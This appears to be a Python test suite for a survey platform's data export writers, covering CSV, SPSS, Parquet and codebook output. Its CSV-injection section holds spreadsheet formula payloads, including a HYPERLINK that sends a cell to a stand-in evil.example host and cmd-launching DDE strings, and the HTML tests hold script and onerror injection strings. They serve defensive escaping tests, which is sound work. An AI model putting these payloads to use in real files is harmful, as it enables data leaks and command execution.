"""Tests of the export writers: CSV, SPSS, Parquet and codebook files from a hand-built ExportData."""

from __future__ import annotations

import csv
import dataclasses
import html
import json
import math
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pyreadstat
import pytest

from studyapp.exports.writers import (
    FIXED_COLUMNS,
    FORMATS,
    LONG_COLUMNS,
    ExportData,
    ExportDataError,
    SpssNameError,
    Variable,
    codebook_dict,
    long_frame,
    spss_name,
    spss_names,
    wide_by_person_frame,
    wide_frame,
    write_all,
    write_codebook_html,
    write_codebook_json,
    write_long_csv,
    write_parquet,
    write_sav,
    write_wide_csv,
)

COMMENT_P1 = "Café \"De Zon\" – <script>alert('x')</script>"
COMMENT_P2 = 'l\'été, "quoted", new\nline'
COMMENT_P3 = "naïve"
SCRIPT_LABEL = 'Anything else? <script>alert("label")</script> & "quotes"'

VARIABLES = [
    Variable(name="pseudonym", label="Participant code", kind="id"),
    Variable(
        name="int_sports",
        label="Ik sport graag",
        kind="scale",
        value_labels={1: "helemaal niet", 7: "helemaal"},
        section="Interests",
        facet="active",
        reverse=False,
        min_value=1,
        max_value=7,
    ),
    Variable(
        name="job_group",
        label="Job group",
        kind="choice",
        value_labels={1: "engineer", 2: "researcher", 3: "consultant"},
        section="Work",
    ),
    Variable(name="hours", label="Contract hours per week", kind="number", section="Work", min_value=0),
    Variable(name="comment.free-text", label=SCRIPT_LABEL, kind="text", section="End"),
]
ITEMS = ["int_sports", "job_group", "hours", "comment.free-text"]
NA = pd.NA


def utc(text: str | None) -> pd.Timestamp:
    return pd.NaT if text is None else pd.Timestamp(text, tz="UTC")


def make_data() -> ExportData:
    """3 pseudonyms, 2 waves; P003 has no wave 2; some answers are missing."""
    answers = pd.DataFrame(
        [
            # deliberately out of order: the writers sort
            ("P002", "C1", "T2", 2, "job_group", 2, NA),
            ("P001", "C1", "T1", 1, "comment.free-text", NA, COMMENT_P1),
            ("P001", "C1", "T1", 1, "int_sports", 5, NA),
            ("P001", "C1", "T1", 1, "job_group", 1, NA),
            ("P001", "C1", "T1", 1, "hours", 36, NA),
            ("P001", "C1", "T2", 2, "int_sports", 6, NA),
            ("P001", "C1", "T2", 2, "job_group", 1, NA),
            ("P001", "C1", "T2", 2, "hours", NA, NA),  # shown, not answered
            ("P002", "C1", "T1", 1, "int_sports", 1, NA),
            ("P002", "C1", "T1", 1, "job_group", 3, NA),
            ("P002", "C1", "T1", 1, "hours", 40, NA),
            ("P002", "C1", "T1", 1, "comment.free-text", NA, COMMENT_P2),
            ("P002", "C1", "T2", 2, "int_sports", 7, NA),
            ("P002", "C1", "T2", 2, "hours", 38, NA),
            ("P003", "C1", "T1", 1, "hours", 24, NA),
            ("P003", "C1", "T1", 1, "int_sports", 3, NA),
            ("P003", "C1", "T1", 1, "comment.free-text", NA, COMMENT_P3),
        ],
        columns=["pseudonym", "cohort", "wave", "wave_position", "item", "value_number", "value_text"],
    )
    responses = pd.DataFrame(
        {
            "pseudonym": ["P002", "P001", "P001", "P002", "P003"],
            "cohort": ["C1"] * 5,
            "wave": ["T2", "T1", "T2", "T1", "T1"],
            "wave_position": [2, 1, 2, 1, 1],
            "started_at": [
                utc("2025-07-11T08:00:00"),
                utc("2025-01-10T09:00:00"),
                utc("2025-07-10T09:00:00"),
                utc("2025-01-11T10:00:00"),
                utc("2025-01-12T11:30:15"),
            ],
            "submitted_at": [
                utc("2025-07-11T08:15:00"),
                utc("2025-01-10T09:20:00"),
                utc(None),  # started, not submitted
                utc("2025-01-11T10:25:00"),
                utc("2025-01-12T11:50:45"),
            ],
            "source": ["web", "web", "web", "import", "web"],
            "language": ["en", "nl", "nl", "en", "nl"],
        }
    )
    meta = {
        "study": "Bridge the Gap",
        "instrument": "carriere-kompas 1.0",
        "exported_at": "2025-08-01T12:00:00Z",
        "language": "en",
        "scope": "cohort C1, waves T1-T2",
    }
    return ExportData(answers=answers, responses=responses, variables=list(VARIABLES), meta=meta)


@pytest.fixture
def data() -> ExportData:
    return make_data()


# --- frames ------------------------------------------------------------------------------------


def test_long_frame_is_sorted_by_pseudonym_wave_and_questionnaire_order(data: ExportData) -> None:
    long = long_frame(data)
    assert list(long.columns) == list(LONG_COLUMNS)
    assert list(zip(long["pseudonym"], long["wave"], long["item"], strict=True)) == [
        ("P001", "T1", "int_sports"),
        ("P001", "T1", "job_group"),
        ("P001", "T1", "hours"),
        ("P001", "T1", "comment.free-text"),
        ("P001", "T2", "int_sports"),
        ("P001", "T2", "job_group"),
        ("P001", "T2", "hours"),
        ("P002", "T1", "int_sports"),
        ("P002", "T1", "job_group"),
        ("P002", "T1", "hours"),
        ("P002", "T1", "comment.free-text"),
        ("P002", "T2", "int_sports"),
        ("P002", "T2", "job_group"),
        ("P002", "T2", "hours"),
        ("P003", "T1", "int_sports"),
        ("P003", "T1", "hours"),
        ("P003", "T1", "comment.free-text"),
    ]
    values = list(long["value"])
    assert values[:4] == [5, 1, 36, COMMENT_P1]
    assert isinstance(values[0], int)
    assert values[6] is None


def test_wide_frame_has_one_row_per_response_and_typed_item_columns(data: ExportData) -> None:
    wide = wide_frame(data)
    assert list(wide.columns) == [*FIXED_COLUMNS, *ITEMS]
    assert list(zip(wide["pseudonym"], wide["wave"], strict=True)) == [
        ("P001", "T1"),
        ("P001", "T2"),
        ("P002", "T1"),
        ("P002", "T2"),
        ("P003", "T1"),
    ]
    assert str(wide["int_sports"].dtype) == "Int64"
    assert str(wide["job_group"].dtype) == "Int64"
    assert str(wide["hours"].dtype) == "Int64"
    assert pd.api.types.is_string_dtype(wide["comment.free-text"].dtype)
    assert str(wide["submitted_at"].dtype) == "datetime64[us, UTC]"
    assert wide["int_sports"].tolist() == [5, 6, 1, 7, 3]
    assert wide["job_group"].isna().tolist() == [False, False, False, False, True]
    assert wide["hours"].isna().tolist() == [False, True, False, False, False]
    assert wide.loc[0, "comment.free-text"] == COMMENT_P1
    assert wide["comment.free-text"].isna().tolist() == [False, True, False, True, False]
    assert pd.isna(wide.loc[1, "submitted_at"])
    assert wide.loc[4, "started_at"] == utc("2025-01-12T11:30:15")


def test_number_items_with_fractions_stay_fractional(data: ExportData) -> None:
    answers = data.answers.copy()
    answers.loc[answers["item"].eq("hours") & answers["pseudonym"].eq("P003"), "value_number"] = 24.5
    wide = wide_frame(dataclasses.replace(data, answers=answers))
    assert str(wide["hours"].dtype) == "Float64"
    assert wide.loc[4, "hours"] == 24.5
    long = long_frame(dataclasses.replace(data, answers=answers))
    assert long.loc[long["pseudonym"].eq("P003") & long["item"].eq("hours"), "value"].tolist() == [24.5]


def test_wide_by_person_frame_has_wave_suffixed_columns(data: ExportData) -> None:
    answers = data.answers.copy()
    responses = data.responses.copy()
    for frame in (answers, responses):
        frame["wave"] = frame["wave"].map({"T1": "Wave 1 (2025)", "T2": "Wave 2 (2025)"})
    person = wide_by_person_frame(dataclasses.replace(data, answers=answers, responses=responses))
    assert person["pseudonym"].tolist() == ["P001", "P002", "P003"]
    expected = ["pseudonym", "cohort"]
    for suffix in ("Wave_1_2025", "Wave_2_2025"):
        expected += [
            f"{name}_{suffix}"
            for name in ("started_at", "submitted_at", "source", "language", "submitted", "attrition_weight", *ITEMS)
        ]
    assert list(person.columns) == expected
    assert person["int_sports_Wave_1_2025"].tolist() == [5, 1, 3]
    assert person["int_sports_Wave_2_2025"].tolist()[:2] == [6, 7]
    p3 = person.iloc[2]
    assert all(pd.isna(p3[c]) for c in person.columns if c.endswith("_Wave_2_2025"))
    assert person.loc[0, "comment.free-text_Wave_1_2025"] == COMMENT_P1


# --- CSV ---------------------------------------------------------------------------------------


def test_long_csv_round_trips(data: ExportData, tmp_path: Path) -> None:
    path = write_long_csv(data, tmp_path / "long.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfpseudonym,cohort,wave,wave_position,submitted,item,value\n")
    back = pd.read_csv(path, dtype={"value": "str"}, keep_default_na=False)
    assert list(back.columns) == list(LONG_COLUMNS)
    expected = long_frame(data)
    assert back["pseudonym"].tolist() == expected["pseudonym"].tolist()
    assert back["item"].tolist() == expected["item"].tolist()
    assert back["wave_position"].tolist() == expected["wave_position"].tolist()
    assert back["value"].tolist() == [
        "5",
        "1",
        "36",
        COMMENT_P1,
        "6",
        "1",
        "",
        "1",
        "3",
        "40",
        COMMENT_P2,
        "7",
        "2",
        "38",
        "3",
        "24",
        COMMENT_P3,
    ]


def test_wide_csv_round_trips(data: ExportData, tmp_path: Path) -> None:
    path = write_wide_csv(data, tmp_path / "wide.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(path, encoding="utf-8")
    wide = wide_frame(data)
    assert list(back.columns) == list(wide.columns)
    assert back["pseudonym"].tolist() == wide["pseudonym"].tolist()
    assert back["wave"].tolist() == ["T1", "T2", "T1", "T2", "T1"]
    assert back["int_sports"].tolist() == [5, 6, 1, 7, 3]
    assert back["job_group"].isna().tolist() == [False, False, False, False, True]
    assert back["hours"].isna().tolist() == [False, True, False, False, False]
    assert back["comment.free-text"].tolist()[0] == COMMENT_P1
    assert back["comment.free-text"].tolist()[2] == COMMENT_P2
    assert back["comment.free-text"].isna().tolist() == [False, True, False, True, False]
    raw = path.read_text(encoding="utf-8-sig")
    assert "2025-01-12T11:30:15Z" in raw
    assert "2025-01-10T09:20:00Z" in raw
    times = pd.to_datetime(back["submitted_at"], utc=True)
    pd.testing.assert_series_equal(times, wide["submitted_at"], check_dtype=False)


def test_csv_without_bom(data: ExportData, tmp_path: Path) -> None:
    path = write_wide_csv(data, tmp_path / "wide.csv", bom=False)
    assert path.read_bytes().startswith(b"pseudonym,")


# --- spreadsheet formulas (CSV injection) ------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
#: Text a spreadsheet program would run or read as a formula, one per trigger character (OWASP).
FORMULAS = [
    FORMULA,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _with_answers(data: ExportData, changes: dict[tuple[str, str, str], object]) -> ExportData:
    """``data`` with the answers at (pseudonym, wave, item) replaced; a str is a text answer."""
    answers = data.answers.copy()
    for (pseudonym, wave, item), value in changes.items():
        row = (answers["pseudonym"] == pseudonym) & (answers["wave"] == wave) & (answers["item"] == item)
        assert row.sum() == 1
        column = "value_text" if isinstance(value, str) else "value_number"
        answers.loc[row, column] = value
    return dataclasses.replace(data, answers=answers)


def _csv_rows(path: Path) -> list[dict[str, str]]:
    """The cells exactly as written (no type guessing), as Excel's import sees them."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("text", FORMULAS, ids=["hyperlink", "plus", "minus", "at", "tab", "cr"])
def test_csv_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(
    data: ExportData, tmp_path: Path, text: str
) -> None:
    data = _with_answers(
        data,
        {
            ("P001", "T1", "comment.free-text"): text,
            ("P002", "T1", "comment.free-text"): "-3",  # just a number: nothing to run
            ("P003", "T1", "hours"): -3,  # a number column keeps its numbers
        },
    )
    written = write_all(data, tmp_path, formats=("long_csv", "wide_csv", "person_csv", "sav", "parquet"))

    safe = "'" + text.replace("\r", "\n")  # a CR of its own would end the row (see below)
    long = {(r["pseudonym"], r["wave"], r["item"]): r["value"] for r in _csv_rows(written["long_csv"])}
    assert long[("P001", "T1", "comment.free-text")] == safe
    assert long[("P002", "T1", "comment.free-text")] == "-3"
    assert long[("P003", "T1", "hours")] == "-3"
    assert long[("P001", "T1", "hours")] == "36"
    wide = {(r["pseudonym"], r["wave"]): r for r in _csv_rows(written["wide_csv"])}
    assert wide[("P001", "T1")]["comment.free-text"] == safe
    assert wide[("P002", "T1")]["comment.free-text"] == "-3" and wide[("P003", "T1")]["hours"] == "-3"
    person = {r["pseudonym"]: r for r in _csv_rows(written["person_csv"])}
    assert person["P001"]["comment.free-text_T1"] == safe and person["P003"]["hours_T1"] == "-3"
    assert pd.read_csv(written["wide_csv"])["hours"].tolist()[-1] == -3  # still a number for pandas
    assert all(len(r) == len(FIXED_COLUMNS) + len(ITEMS) for r in _csv_rows(written["wide_csv"]))

    # SPSS and Parquet are not opened by spreadsheets: their text stays exactly as given
    sav, _ = pyreadstat.read_sav(written["sav"])
    assert sav["comment_free_text"].tolist()[0] == text
    assert pq.read_table(written["parquet"]).to_pandas()["comment.free-text"].tolist()[0] == text


def test_raw_text_csv_keeps_formulas_for_r_and_python(data: ExportData, tmp_path: Path) -> None:
    data = _with_answers(data, {("P001", "T1", "comment.free-text"): FORMULA})
    written = write_all(data, tmp_path, formats=("long_csv", "wide_csv"), raw_text=True)
    assert _csv_rows(written["wide_csv"])[0]["comment.free-text"] == FORMULA
    assert pd.read_csv(written["long_csv"], dtype={"value": "str"})["value"].tolist()[3] == FORMULA
    assert _csv_rows(write_wide_csv(data, tmp_path / "w.csv", raw_text=True))[0]["comment.free-text"] == FORMULA
    assert _csv_rows(write_wide_csv(data, tmp_path / "s.csv"))[0]["comment.free-text"] == "'" + FORMULA


def test_a_carriage_return_inside_text_cannot_start_a_row(data: ExportData, tmp_path: Path) -> None:
    """A lone CR ends a row in Excel and pandas; unquoted, it would smuggle a formula into a row of its own."""
    data = _with_answers(data, {("P001", "T1", "comment.free-text"): "fine\r" + FORMULA})
    for raw_text in (False, True):
        path = write_wide_csv(data, tmp_path / f"wide-{raw_text}.csv", raw_text=raw_text)
        rows = _csv_rows(path)
        assert len(rows) == 5 and rows[0]["comment.free-text"] == "fine\n" + FORMULA
        assert len(pd.read_csv(path)) == 5


def test_codebook_says_how_csv_text_is_written(data: ExportData, tmp_path: Path) -> None:
    safe = codebook_dict(data)["csv_text"]
    assert safe["formulas_neutralised"] is True
    assert "apostrophe" in safe["note"] and "SPSS" in safe["note"] and "Parquet" in safe["note"]
    raw = codebook_dict(data, raw_text=True)["csv_text"]
    assert raw["formulas_neutralised"] is False and "exactly as given" in raw["note"]
    page = write_codebook_html(data, tmp_path / "c.html").read_text(encoding="utf-8")
    assert "apostrophe" in page and html.escape(safe["note"]) in page


# --- SPSS --------------------------------------------------------------------------------------


def test_sav_round_trips_labels_measures_missing_and_text(data: ExportData, tmp_path: Path) -> None:
    path = write_sav(data, tmp_path / "export.sav")
    frame, meta = pyreadstat.read_sav(path)
    assert list(frame.columns) == [*FIXED_COLUMNS, "int_sports", "job_group", "hours", "comment_free_text"]
    labels = meta.column_names_to_labels
    assert labels["int_sports"] == "Ik sport graag"
    assert labels["comment_free_text"] == SCRIPT_LABEL
    assert labels["pseudonym"] == "Participant code"
    assert labels["submitted_at"].startswith("Submission")
    assert meta.variable_value_labels["int_sports"] == {1.0: "helemaal niet", 7.0: "helemaal"}
    assert meta.variable_value_labels["job_group"] == {1.0: "engineer", 2.0: "researcher", 3.0: "consultant"}
    assert "hours" not in meta.variable_value_labels
    assert meta.variable_measure["int_sports"] == "ordinal"
    assert meta.variable_measure["job_group"] == "nominal"
    assert meta.variable_measure["hours"] == "scale"
    assert meta.variable_measure["started_at"] == "scale"
    assert meta.original_variable_types["int_sports"] == "F8.0"
    assert meta.original_variable_types["submitted_at"].startswith("DATETIME")
    assert meta.file_label == "Bridge the Gap"
    assert "study: Bridge the Gap" in meta.notes
    assert frame["int_sports"].tolist() == [5, 6, 1, 7, 3]
    assert math.isnan(frame["job_group"][4])
    assert math.isnan(frame["hours"][1])
    assert frame["comment_free_text"].tolist() == [COMMENT_P1, "", COMMENT_P2, "", COMMENT_P3]
    assert frame["submitted_at"][0] == pd.Timestamp("2025-01-10 09:20:00")
    assert pd.isna(frame["submitted_at"][1])
    assert frame["started_at"][4] == pd.Timestamp("2025-01-12 11:30:15")


def test_sav_cuts_long_labels_at_a_character_boundary(data: ExportData, tmp_path: Path) -> None:
    variables = list(data.variables)
    variables[1] = dataclasses.replace(variables[1], label="é" * 300, value_labels={1: "ü" * 100})
    path = write_sav(dataclasses.replace(data, variables=variables), tmp_path / "long.sav")
    _, meta = pyreadstat.read_sav(path)
    label = meta.column_names_to_labels["int_sports"]
    assert len(label.encode("utf-8")) <= 256
    assert label.endswith("…")
    assert label.startswith("é" * 100)
    value_label = meta.variable_value_labels["int_sports"][1.0]
    assert len(value_label.encode("utf-8")) <= 120
    assert value_label.startswith("ü" * 50)


def test_sav_refuses_names_that_collide_after_sanitising(data: ExportData, tmp_path: Path) -> None:
    variables = [*data.variables, Variable(name="comment free text", label="Other", kind="text")]
    with pytest.raises(SpssNameError, match="comment_free_text"):
        write_sav(dataclasses.replace(data, variables=variables), tmp_path / "x.sav")
    assert not (tmp_path / "x.sav").exists()


def test_sav_of_responses_without_answers(data: ExportData, tmp_path: Path) -> None:
    empty = dataclasses.replace(data, answers=data.answers.iloc[0:0])
    frame, _ = pyreadstat.read_sav(write_sav(empty, tmp_path / "empty.sav"))
    assert len(frame) == 5
    assert frame["int_sports"].isna().all()


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("int_sports", "int_sports"),
        ("comment.free-text", "comment_free_text"),
        ("2nd job", "v_2nd_job"),
        ("_private_", "private"),
        ("Één keer", "Een_keer"),
        ("to", "v_to"),
        ("WITH", "v_WITH"),
        ("???", "v"),
        ("a" * 70, "a" * 64),
        ("a" * 63 + "_b", "a" * 63),
    ],
)
def test_spss_name_makes_valid_names(name: str, expected: str) -> None:
    assert spss_name(name) == expected
    assert len(spss_name(name).encode("utf-8")) <= 64


def test_spss_names_maps_and_refuses_duplicates() -> None:
    assert spss_names(["a.b", "2x"]) == {"a.b": "a_b", "2x": "v_2x"}
    with pytest.raises(SpssNameError, match=r"'a\.b' and 'a-b'"):
        spss_names(["a.b", "a-b"])
    with pytest.raises(SpssNameError):
        spss_names(["Age", "age"])  # SPSS ignores case
    with pytest.raises(SpssNameError):
        spss_names(["age", "AGE"])
    with pytest.raises(SpssNameError):
        spss_names(["x" * 64 + "1", "x" * 64 + "2"])


# --- Parquet -----------------------------------------------------------------------------------


def test_parquet_round_trips_wide_data_and_codebook(data: ExportData, tmp_path: Path) -> None:
    path = write_parquet(data, tmp_path / "export.parquet")
    table = pq.read_table(path)
    back = table.to_pandas()
    pd.testing.assert_frame_equal(back, wide_frame(data))
    codebook = json.loads(table.schema.metadata[b"codebook"].decode("utf-8"))
    assert codebook == codebook_dict(data)
    assert table.schema.field("int_sports").metadata[b"label"] == b"Ik sport graag"


# --- codebook ----------------------------------------------------------------------------------


def by_name(codebook: dict) -> dict[str, dict]:
    return {v["name"]: v for v in codebook["variables"]}


def test_codebook_lists_every_variable_with_hand_computed_descriptives(data: ExportData) -> None:
    codebook = codebook_dict(data)
    assert codebook["meta"] == data.meta
    assert [v["name"] for v in codebook["variables"]] == [*FIXED_COLUMNS, *ITEMS]
    assert codebook["summary"]["n_responses"] == 5
    assert codebook["summary"]["n_pseudonyms"] == 3
    assert codebook["summary"]["n_answers"] == 17
    assert codebook["summary"]["waves"] == [
        {"label": "T1", "positions": [1], "n_responses": 3, "n_submitted": 3},
        {"label": "T2", "positions": [2], "n_responses": 2, "n_submitted": 1},
    ]
    variables = by_name(codebook)

    sports = variables["int_sports"]
    assert sports["spss_name"] == "int_sports"
    assert (sports["section"], sports["facet"], sports["reverse"]) == ("Interests", "active", False)
    assert (sports["min_value"], sports["max_value"], sports["measure"]) == (1, 7, "ordinal")
    d = sports["descriptives"]
    assert (d["n_answered"], d["n_missing"]) == (5, 0)
    assert d["mean"] == pytest.approx(4.4)
    assert d["sd"] == pytest.approx(math.sqrt(5.8))
    assert (d["min"], d["max"]) == (1, 7)
    assert sports["value_labels"] == [
        {"value": 1, "label": "helemaal niet", "count": 1},
        {"value": 7, "label": "helemaal", "count": 1},
    ]
    assert d["unlabelled_values"] == [
        {"value": 3, "count": 1},
        {"value": 5, "count": 1},
        {"value": 6, "count": 1},
    ]
    t1, t2 = d["by_wave"]
    assert (t1["wave"], t1["n_answered"], t1["n_missing"]) == ("T1", 3, 0)
    assert t1["mean"] == pytest.approx(3.0)
    assert t1["sd"] == pytest.approx(2.0)
    assert t2["mean"] == pytest.approx(6.5)
    assert t2["sd"] == pytest.approx(math.sqrt(0.5))

    job = variables["job_group"]
    assert (job["descriptives"]["n_answered"], job["descriptives"]["n_missing"]) == (4, 1)
    assert job["descriptives"]["mean"] == pytest.approx(1.75)
    assert [v["count"] for v in job["value_labels"]] == [2, 1, 1]

    hours = variables["hours"]["descriptives"]
    assert (hours["n_answered"], hours["n_missing"]) == (4, 1)
    assert hours["mean"] == pytest.approx(34.5)
    assert hours["sd"] == pytest.approx(math.sqrt(155 / 3))
    assert variables["hours"]["value_labels"] == []

    comment = variables["comment.free-text"]
    assert comment["spss_name"] == "comment_free_text"
    assert comment["label"] == SCRIPT_LABEL
    assert (comment["descriptives"]["n_answered"], comment["descriptives"]["n_missing"]) == (3, 2)
    assert "mean" not in comment["descriptives"]

    assert variables["pseudonym"]["kind"] == "id"
    assert variables["pseudonym"]["descriptives"]["n_distinct"] == 3
    assert variables["submitted_at"]["descriptives"]["n_missing"] == 1
    assert variables["submitted_at"]["descriptives"]["max"] == "2025-07-11T08:15:00Z"
    assert variables["source"]["descriptives"]["value_counts"] == [
        {"value": "import", "count": 1},
        {"value": "web", "count": 4},
    ]
    assert variables["language"]["descriptives"]["value_counts"] == [
        {"value": "en", "count": 2},
        {"value": "nl", "count": 3},
    ]


def test_codebook_json_file(data: ExportData, tmp_path: Path) -> None:
    path = write_codebook_json(data, tmp_path / "codebook.json")
    loaded = json.loads(path.read_text(encoding="utf-8"))
    assert loaded == codebook_dict(data)
    assert "Café" not in path.read_text(encoding="utf-8")  # answers never reach the codebook
    assert 'alert(\\"label\\")' in path.read_text(encoding="utf-8")


def test_codebook_html_escapes_untrusted_text(data: ExportData, tmp_path: Path) -> None:
    variables = list(data.variables)
    variables[2] = dataclasses.replace(variables[2], value_labels={1: "<b>engineer</b>", 2: "r", 3: "c"})
    meta = {**data.meta, "scope": "<img src=x onerror=alert(1)>"}
    path = write_codebook_html(dataclasses.replace(data, variables=variables, meta=meta), tmp_path / "c.html")
    page = path.read_text(encoding="utf-8")
    assert page.startswith("<!DOCTYPE html>")
    assert "<script" not in page.lower()
    assert "<b>" not in page and "<img" not in page
    assert "&lt;script&gt;alert(&quot;label&quot;)&lt;/script&gt; &amp; &quot;quotes&quot;" in page
    assert "&lt;b&gt;engineer&lt;/b&gt;" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "comment_free_text" in page
    assert "4.40" in page  # mean of int_sports
    assert "src=" not in page.replace("src=x", "")  # nothing is loaded from elsewhere


# --- write_all and input checks ----------------------------------------------------------------


def test_write_all_writes_every_format_with_stable_names(data: ExportData, tmp_path: Path) -> None:
    written = write_all(data, tmp_path / "out", prefix="btg_c1")
    assert list(written) == list(FORMATS)
    assert {p.name for p in written.values()} == {
        "btg_c1_long.csv",
        "btg_c1_wide.csv",
        "btg_c1.sav",
        "btg_c1.parquet",
        "btg_c1_codebook.json",
        "btg_c1_codebook.html",
    }
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(p.name for p in written.values())
    assert pd.read_csv(written["wide_csv"]).shape == (5, len(FIXED_COLUMNS) + len(ITEMS))

    only = write_all(data, tmp_path / "some", formats=("long_csv", "person_csv"))
    assert sorted(p.name for p in (tmp_path / "some").iterdir()) == [
        "export_long.csv",
        "export_wide_by_person.csv",
    ]
    assert set(only) == {"long_csv", "person_csv"}


def test_write_all_refuses_bad_formats_and_prefixes_before_writing(data: ExportData, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="xlsx"):
        write_all(data, tmp_path / "a", formats=("long_csv", "xlsx"))
    with pytest.raises(ValueError, match="prefix"):
        write_all(data, tmp_path / "b", prefix="../escape")
    assert not (tmp_path / "a").exists()
    assert not (tmp_path / "b").exists()


def test_extra_input_columns_are_refused(data: ExportData) -> None:
    responses = data.responses.assign(email="p@example.org")
    with pytest.raises(ExportDataError, match="email"):
        wide_frame(dataclasses.replace(data, responses=responses))
    answers = data.answers.assign(name="Jan")
    with pytest.raises(ExportDataError, match="name"):
        long_frame(dataclasses.replace(data, answers=answers))


def test_inconsistent_input_is_refused(data: ExportData) -> None:
    answers = data.answers
    unknown = pd.concat([answers, answers.iloc[[0]].assign(item="ghost")], ignore_index=True)
    with pytest.raises(ExportDataError, match="ghost"):
        wide_frame(dataclasses.replace(data, answers=unknown))
    with pytest.raises(ExportDataError, match="more than one answer"):
        wide_frame(dataclasses.replace(data, answers=pd.concat([answers, answers.iloc[[0]]])))
    orphan = answers.iloc[[0]].assign(pseudonym="P003")  # P003 has no wave T2
    with pytest.raises(ExportDataError, match="without a response"):
        wide_frame(dataclasses.replace(data, answers=pd.concat([answers, orphan])))
    text_in_scale = answers.copy()
    text_in_scale.loc[text_in_scale["item"] == "int_sports", ["value_number", "value_text"]] = [NA, "five"]
    with pytest.raises(ExportDataError, match="wrong value column"):
        wide_frame(dataclasses.replace(data, answers=text_in_scale))
    with pytest.raises(ExportDataError, match="more than one response"):
        wide_frame(dataclasses.replace(data, responses=pd.concat([data.responses, data.responses.iloc[[0]]])))


def test_variable_checks_its_definition() -> None:
    assert Variable(name="x", label="X", kind="scale").measure == "ordinal"
    assert Variable(name="x", label="X", kind="number").measure == "scale"
    with pytest.raises(ValueError, match="kind"):
        Variable(name="x", label="X", kind="likert")  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="value labels"):
        Variable(name="x", label="X", kind="text", value_labels={1: "a"})
